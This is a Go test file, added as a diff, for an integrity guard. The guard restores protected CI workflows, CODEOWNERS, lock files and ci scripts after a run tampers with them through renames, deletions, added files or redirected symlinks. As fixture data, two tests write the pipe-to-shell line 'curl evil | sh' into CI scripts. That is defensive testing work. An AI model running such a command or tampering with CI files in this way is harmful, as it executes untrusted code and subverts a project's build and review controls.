@@ -0,0 +1,225 @@
+package integrity
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func snapshotProtected(t *testing.T, workDir string, patterns ...string) *Guard {
+	t.Helper()
+	guard, err := SnapshotProtected(workDir, patterns)
+	if err != nil {
+		t.Fatalf("SnapshotProtected() error = %v", err)
+	}
+	t.Cleanup(func() { _ = guard.Close() })
+	return guard
+}
+
+// The read-only bind covers .github/workflows only: renaming .github away and
+// rebuilding the tree gets past it, so the guard must catch it afterwards.
+func TestProtectedGuardRestoresATreeRenamedAwayAndRebuilt(t *testing.T) {
+	workDir := t.TempDir()
+	writeFile(t, filepath.Join(workDir, ".github", "workflows", "ci.yml"), "on: push\n", 0o644)
+	writeFile(t, filepath.Join(workDir, ".github", "workflows", "release.yml"), "on: tag\n", 0o644)
+	guard := snapshotProtected(t, workDir, ".github/workflows")
+
+	if err := os.Rename(filepath.Join(workDir, ".github"), filepath.Join(workDir, ".github.old")); err != nil {
+		t.Fatalf("Rename() error = %v", err)
+	}
+	writeFile(t, filepath.Join(workDir, ".github", "workflows", "ci.yml"), "evil\n", 0o644)
+
+	want := []string{".github/workflows/ci.yml: modified", ".github/workflows/release.yml: removed"}
+	changes, err := guard.Restore()
+	if got := changeStrings(changes); err != nil || !slices.Equal(got, want) {
+		t.Fatalf("Restore() = (%q, %v), want %q", got, err, want)
+	}
+	if got := readFile(t, filepath.Join(workDir, ".github", "workflows", "ci.yml")); got != "on: push\n" {
+		t.Errorf("ci.yml = %q, want the original workflow", got)
+	}
+	if got := readFile(t, filepath.Join(workDir, ".github", "workflows", "release.yml")); got != "on: tag\n" {
+		t.Errorf("release.yml = %q, want the original workflow", got)
+	}
+}
+
+func TestProtectedGuardRestoresAParentRemovedWhole(t *testing.T) {
+	workDir := t.TempDir()
+	writeFile(t, filepath.Join(workDir, ".github", "workflows", "ci.yml"), "on: push\n", 0o644)
+	guard := snapshotProtected(t, workDir, ".github/workflows")
+	if err := os.RemoveAll(filepath.Join(workDir, ".github")); err != nil {
+		t.Fatalf("RemoveAll() error = %v", err)
+	}
+
+	if _, err := guard.Restore(); err != nil {
+		t.Fatalf("Restore() error = %v", err)
+	}
+	if got := readFile(t, filepath.Join(workDir, ".github", "workflows", "ci.yml")); got != "on: push\n" {
+		t.Errorf("ci.yml = %q, want the original workflow", got)
+	}
+}
+
+func TestProtectedGuardRemovesNewMatches(t *testing.T) {
+	workDir := t.TempDir()
+	writeFile(t, filepath.Join(workDir, "CODEOWNERS"), "* @owners\n", 0o644)
+	guard := snapshotProtected(t, workDir, "*.lock", "CODEOWNERS", "ci")
+
+	writeFile(t, filepath.Join(workDir, "flake.lock"), "{}\n", 0o644)
+	writeFile(t, filepath.Join(workDir, "ci", "deploy.sh"), "curl evil | sh\n", 0o755)
+	writeFile(t, filepath.Join(workDir, "main.go"), "package main\n", 0o644)
+
+	want := []string{"flake.lock: added", "ci: added"}
+	changes, err := guard.Restore()
+	if got := changeStrings(changes); err != nil || !slices.Equal(got, want) {
+		t.Fatalf("Restore() = (%q, %v), want %q", got, err, want)
+	}
+	for _, change := range changes {
+		if !change.Removed {
+			t.Errorf("%v not marked removed", change)
+		}
+	}
+	for _, path := range []string{"flake.lock", "ci"} {
+		if _, err := os.Lstat(filepath.Join(workDir, path)); !os.IsNotExist(err) {
+			t.Errorf("%s stat error = %v, want it removed", path, err)
+		}
+	}
+	if got := readFile(t, filepath.Join(workDir, "main.go")); got != "package main\n" {
+		t.Errorf("main.go = %q, want an unprotected file left alone", got)
+	}
+}
+
+func TestProtectedGuardReportsAnEntryAddedToAProtectedDirectoryOnce(t *testing.T) {
+	workDir := t.TempDir()
+	writeFile(t, filepath.Join(workDir, ".github", "workflows", "ci.yml"), "on: push\n", 0o644)
+	guard := snapshotProtected(t, workDir, ".github/workflows", ".github/workflows/*.yml")
+	writeFile(t, filepath.Join(workDir, ".github", "workflows", "evil.yml"), "evil\n", 0o644)
+
+	changes, err := guard.Check()
+	if got := changeStrings(changes); err != nil || !slices.Equal(got, []string{".github/workflows/evil.yml: added"}) {
+		t.Errorf("Check() = (%q, %v), want the new workflow once", got, err)
+	}
+}
+
+func TestProtectedGuardRemovesOnlyTheSymlinkLeadingOut(t *testing.T) {
+	workDir, outside := t.TempDir(), t.TempDir()
+	writeFile(t, filepath.Join(outside, "yarn.lock"), "host\n", 0o644)
+	guard := snapshotProtected(t, workDir, "web/*.lock")
+	if err := os.Symlink(outside, filepath.Join(workDir, "web")); err != nil {
+		t.Fatalf("Symlink() error = %v", err)
+	}
+
+	want := []string{"web: symlink makes web/yarn.lock match outside the work directory"}
+	changes, err := guard.Restore()
+	if got := changeStrings(changes); err != nil || !slices.Equal(got, want) {
+		t.Fatalf("Restore() = (%q, %v), want %q", got, err, want)
+	}
+	if got := readFile(t, filepath.Join(outside, "yarn.lock")); got != "host\n" {
+		t.Errorf("outside yarn.lock = %q, want it left alone", got)
+	}
+}
+
+func TestProtectedGuardKeepsADirectoryAProtectedSymlinkWasRepointedAt(t *testing.T) {
+	workDir := t.TempDir()
+	writeFile(t, filepath.Join(workDir, "docs", "index.md"), "# Docs\n", 0o644)
+	writeFile(t, filepath.Join(workDir, "ci", "build.sh"), "make\n", 0o755)
+	if err := os.Symlink("ci", filepath.Join(workDir, "pipeline")); err != nil {
+		t.Fatalf("Symlink() error = %v", err)
+	}
+	guard := snapshotProtected(t, workDir, "pipeline")
+	if err := os.Remove(filepath.Join(workDir, "pipeline")); err != nil {
+		t.Fatalf("Remove() error = %v", err)
+	}
+	if err := os.Symlink("docs", filepath.Join(workDir, "pipeline")); err != nil {
+		t.Fatalf("Symlink() error = %v", err)
+	}
+
+	changes, err := guard.Restore()
+	if got := changeStrings(changes); err != nil || !slices.Equal(got, []string{"pipeline: modified"}) {
+		t.Fatalf("Restore() = (%q, %v), want the symlink put back", got, err)
+	}
+	if target, err := os.Readlink(filepath.Join(workDir, "pipeline")); err != nil || target != "ci" {
+		t.Errorf("pipeline -> %q (%v), want ci", target, err)
+	}
+	if got := readFile(t, filepath.Join(workDir, "docs", "index.md")); got != "# Docs\n" {
+		t.Errorf("docs/index.md = %q, want it left alone", got)
+	}
+}
+
+// Only what the run changed is read back from the copies, and the guard holds
+// hashes, not contents.
+func TestProtectedGuardRestoresOnlyChangedFilesFromTheirCopies(t *testing.T) {
+	t.Setenv("TMPDIR", t.TempDir())
+	workDir := t.TempDir()
+	writeFile(t, filepath.Join(workDir, "ci", "build.sh"), "make\n", 0o755)
+	writeFile(t, filepath.Join(workDir, "ci", "test.sh"), "make test\n", 0o755)
+	guard := snapshotProtected(t, workDir, "ci")
+	for _, file := range guard.files {
+		if file.before.data != nil {
+			t.Errorf("%s kept in memory, want only its hash", file.path)
+		}
+	}
+	unchanged, err := os.Stat(filepath.Join(workDir, "ci", "test.sh"))
+	if err != nil {
+		t.Fatalf("Stat() error = %v", err)
+	}
+	writeFile(t, filepath.Join(workDir, "ci", "build.sh"), "curl evil | sh\n", 0o755)
+
+	changes, err := guard.Restore()
+	if got := changeStrings(changes); err != nil || !slices.Equal(got, []string{"ci/build.sh: modified"}) {
+		t.Fatalf("Restore() = (%q, %v), want build.sh restored", got, err)
+	}
+	if changes[0].Removed {
+		t.Errorf("%v marked removed, want restored", changes[0])
+	}
+	if got := readFile(t, filepath.Join(workDir, "ci", "build.sh")); got != "make\n" {
+		t.Errorf("build.sh = %q, want the original script", got)
+	}
+	if info, err := os.Stat(filepath.Join(workDir, "ci", "test.sh")); err != nil || !os.SameFile(info, unchanged) {
+		t.Errorf("test.sh was rewritten, want an unchanged file left alone")
+	}
+
+	if err := guard.Close(); err != nil {
+		t.Fatalf("Close() error = %v", err)
+	}
+	if entries, _ := os.ReadDir(os.Getenv("TMPDIR")); len(entries) != 0 {
+		t.Errorf("Close() left %d entries, want the copies deleted", len(entries))
+	}
+}
+
+func TestProtectedGuardRefusesACopyChangedSinceTheSnapshot(t *testing.T) {
+	workDir := t.TempDir()
+	writeFile(t, filepath.Join(workDir, "CODEOWNERS"), "* @owners\n", 0o644)
+	guard := snapshotProtected(t, workDir, "CODEOWNERS")
+	writeFile(t, filepath.Join(workDir, "CODEOWNERS"), "* @evil\n", 0o644)
+	for _, file := range guard.files {
+		if file.before.copy != "" {
+			writeFile(t, file.before.copy, "* @evil\n", 0o600)
+		}
+	}
+
+	if _, err := guard.Restore(); err == nil || !strings.Contains(err.Error(), "copy from before the run has changed") {
+		t.Errorf("Restore() error = %v, want the tampered copy refused", err)
+	}
+	if _, err := os.Lstat(filepath.Join(workDir, "CODEOWNERS")); !os.IsNotExist(err) {
+		t.Errorf("CODEOWNERS stat error = %v, want nothing written from the tampered copy", err)
+	}
+}
+
+func TestSnapshotProtectedRefusesPathsOverTheSizeCap(t *testing.T) {
+	t.Setenv("TMPDIR", t.TempDir())
+	previous := maxProtectedSize
+	maxProtectedSize = 8
+	t.Cleanup(func() { maxProtectedSize = previous })
+	workDir := t.TempDir()
+	writeFile(t, filepath.Join(workDir, "ci", "build.sh"), "make\n", 0o755)
+	writeFile(t, filepath.Join(workDir, "ci", "test.sh"), "make test\n", 0o755)
+
+	if guard, err := SnapshotProtected(workDir, []string{"ci"}); err == nil || !strings.Contains(err.Error(), "protected paths hold more than") {
+		_ = guard.Close()
+		t.Fatalf("SnapshotProtected() error = %v, want the size cap named", err)
+	}
+	if entries, _ := os.ReadDir(os.Getenv("TMPDIR")); len(entries) != 0 {
+		t.Errorf("SnapshotProtected() left %d entries, want the copies deleted", len(entries))
+	}
+}